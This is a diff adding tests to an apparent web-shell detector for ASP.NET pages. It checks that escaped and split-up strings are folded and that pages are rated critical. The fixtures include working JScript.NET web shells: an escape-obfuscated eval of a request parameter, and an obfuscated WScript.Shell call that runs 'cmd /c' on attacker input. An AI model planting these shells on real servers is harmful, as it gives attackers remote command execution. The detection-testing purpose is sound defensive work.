@@ -30,6 +30,9 @@ describe('strings as the compiler sees them', () => {
     expect(foldCompiledStrings('new String(Base64.getDecoder().decode("ZXhlYw=="))')).toBe(
       '"exec"',
     );
+    expect(foldCompiledStrings('new ActiveXObject(unescape("%57%53cript.Shell"))')).toBe(
+      'new ActiveXObject("WScript.Shell")',
+    );
     expect(foldCompiledStrings('Class.forName("java.lang." + "Run" + "ti" + "me")')).toBe(
       'Class.forName("java.lang.Runtime")',
     );
@@ -99,6 +102,33 @@ var s = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)
 var plugin = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Plugin.dll")).CreateInstance(new string(new char[] {'P','l','u','g'}));
 Title.Text = Request.Url.Host; %>`;
     expect(severity('/inetpub/wwwroot/setup.aspx', page)).not.toMatch(/high|critical/);
+  });
+});
+
+describe('JScript.NET pages', () => {
+  it('reads escapes and unescape() as the compiler and the runtime do', () => {
+    // The request spelt in \u escapes, in a string split across code blocks.
+    const split = `<%@ Page Language="Jscript"%>
+<%
+    var p = eval(""%>
+<%+"\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074.Item[\\"g\\"]")
+    eval(p,"unsafe");
+%>`;
+    expect(severity('/inetpub/wwwroot/lb.aspx', split)).toBe('critical');
+    const shell = `<%@ Page Language="Jscript"%>
+<%
+var c = System.Web.HttpContext.Current;
+var command = c.Request.Item['g'];
+var r = new ActiveXObject(unescape("%57%53%63%72%69%70%74%2e%53%68%65%6c%6c")).Exec("cmd /c " + command);
+Response.Write(r.StdOut.ReadAll());
+%>`;
+    expect(severity('/inetpub/wwwroot/u.aspx', shell)).toBe('critical');
+    // A greeting kept percent-encoded, beside the request: nothing runs.
+    const greeting = shell
+      .replace('%57%53%63%72%69%70%74%2e%53%68%65%6c%6c', '%48%65%6c%6c%6f')
+      .replace(/var r = [^\n]*\n/, 'Response.Write(unescape("%48%65%6c%6c%6f") + command);\n')
+      .replace('Response.Write(r.StdOut.ReadAll());', '');
+    expect(severity('/inetpub/wwwroot/hello.aspx', greeting)).not.toMatch(/high|critical/);
   });
 });
 
